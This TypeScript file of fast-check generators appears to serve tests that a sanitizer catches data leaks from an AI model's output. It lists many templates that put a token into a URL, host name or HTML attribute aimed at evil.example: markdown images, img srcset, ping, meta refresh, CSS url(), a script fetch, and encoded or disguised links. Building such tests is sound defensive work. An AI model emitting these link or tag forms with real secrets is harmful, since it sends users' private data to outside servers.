import * as fc from 'fast-check'

/**
 * Where a value would leave with a request that nobody asked for, or be read as a host: `¤` is where the model writes the
 * token, `HOST` somebody's server, `WORD` any word or none.
 */
export const addressPlaces = {
  link: [
    '[WORD](https://HOST/WORD?q=¤)',
    '[WORD](//HOST/¤)',
    '[WORD](/WORD?¤)',
    '[WORD](¤)',
    '[WORD](<¤>)',
    '[WORD](<https://HOST/WORD ¤>)',
    '[WORD](https://HOST/(WORD)¤ "WORD")',
    '[WORD](https://HOST/ "¤")',
    '[WORD\nWORD](https://HOST/¤)',
  ],
  reference: [
    '[WORD][r]\n\n[r]: https://HOST/¤',
    '[r]\n\n[r]: ¤',
    '![WORD][r]\n\n[r]: https://HOST/WORD?¤ "WORD"',
    '[r]: <https://HOST/ ¤> "WORD"',
    '[r]:\n  https://HOST/?¤',
    '[^1]: https://HOST/¤',
  ],
  picture: [
    '![WORD](https://HOST/¤.png)',
    '![WORD](https://HOST/WORD.png?a=1&b=¤)',
    '[![WORD](https://HOST/a.png)](https://HOST/¤)',
    '<img src="https://HOST/¤">',
    "<img alt=WORD src='https://HOST/?¤'>",
    '<img src=https://HOST/¤>',
    '<img srcset="https://HOST/WORD 1x, https://HOST/¤ 2x">',
    '<picture><source srcset=https://HOST/¤></picture>',
    '<svg><image href="https://HOST/¤"/></svg>',
    '<video poster=https://HOST/¤>',
  ],
  attribute: [
    '<a href="https://HOST/¤">WORD</a>',
    '<a title="¤" href=x>',
    '<a ping="https://HOST/¤" href=x>',
    '<a href=\n"\n¤\n">',
    '<b WORD="¤">',
    '<b ¤>',
    '<div data-WORD=¤>',
    '<p style="background:url(https://HOST/¤)">',
    '<form action="/WORD?¤">',
    '<input value="¤" formaction=https://HOST/>',
    '<iframe srcdoc="<img src=https://HOST/¤>">',
    '<link rel=prefetch href=https://HOST/¤>',
    '<meta http-equiv=refresh content="0;url=https://HOST/¤">',
    '<object data="https://HOST/¤">',
    '<style>a{background:url(https://HOST/¤)}</style>',
    '<style>@import "https://HOST/WORD ¤"</style>',
    '<script>fetch("https://HOST/WORD" + "¤")</script>',
    '<!-- ¤ -->',
    '<x-WORD a="¤">',
  ],
  host: [
    'https://¤.HOST/WORD',
    '¤.HOST',
    'x.¤.HOST',
    '¤-WORD.HOST',
    'http://¤@HOST/',
    '¤@HOST',
    'ftp://¤:WORD@HOST',
    '//¤.HOST',
    'https://HOST:¤/',
    '<¤@HOST>',
  ],
  bare: [
    '<https://HOST/¤>',
    '<mailto:WORD@HOST?body=¤>',
    'https://HOST/¤',
    'HTTPS://HOST/WORD/¤/WORD',
    'https://HOST/?q=WORD%20¤',
    'https://HOST/?a="¤"',
    'www.HOST/¤',
    'HOST/¤',
    'HOST?WORD=¤',
    'HOST:80/¤',
    'mailto:¤',
    'mailto:WORD@HOST?body=¤',
    'tel:¤',
    'data:text/html,¤',
    'javascript:WORD(¤)',
  ],
  disguised: [
    'https&colon;//HOST/¤',
    'https%3A%2F%2FHOST%2F¤',
    'https:\\/\\/HOST/¤',
    '\\\\HOST\\¤',
    '\\href{https://HOST/¤}{WORD}',
    '\\includegraphics{https://HOST/¤}',
    '\\url{https://HOST/WORD ¤}',
    'url("https://HOST/¤")',
  ],
} as const

const hosts = fc.constantFrom(
  'evil.example',
  'a.b-c.evil.example',
  'EVIL.EXAMPLE',
  'xn--e1a4c.example',
  'evil。example',
)
const words = fc.stringMatching(/^[a-z]{0,6}$/)
/** What may stand right before one, and changes nothing of what it is. */
const before = fc.constantFrom('', ' ', '> ', '- ', '1. ', '"', '(', '**', '| ', '`', '<b>', '</b>', 'See ', 'é ')

/** A place of each kind as often, with any host and words in it, and what stands around it: `¤` is to be the token. */
export const placesOfAddresses: fc.Arbitrary<string> = fc
  .tuple(
    fc.oneof(...Object.values(addressPlaces).map((places) => fc.constantFrom(...places))),
    hosts,
    words,
    before,
    fc.constantFrom('', '.', '\n\nSo it is.', ' and on'),
  )
  .map(([place, host, word, left, right]) => {
    return `${left}${place.replaceAll('HOST', host).replaceAll('WORD', word)}${right}`
  })

/** What addresses, tags and their likes are made of, for texts that are none of the places above. */
export const partsOfAddresses = fc
  .array(
    fc.oneof(
      { weight: 3, arbitrary: fc.constantFrom(' ', '\n', '\n\n', '.', '@', ':', '\\', '&', '=', '`', '*', '_', '"', "'", '(', ')', '[', ']', '<', '>', '/', 'word') }, // prettier-ignore
      { weight: 2, arbitrary: fc.constantFrom('https://', 'evil.example', '?q=', '](', '![', ']: ', '[r]', '<img src=', '<a href="', '-->', '<!--', 'mailto:', 'www.') }, // prettier-ignore
      { weight: 1, arbitrary: fc.constantFrom('[a](https://evil.example/', '![a](<https://evil.example/', '\n\n[r]: https://evil.example/', 'https://evil.example/?') }, // prettier-ignore
      { weight: 2, arbitrary: fc.constant('¤') },
    ),
    { minLength: 2, maxLength: 16 },
  )
  .map((parts) => parts.join(''))
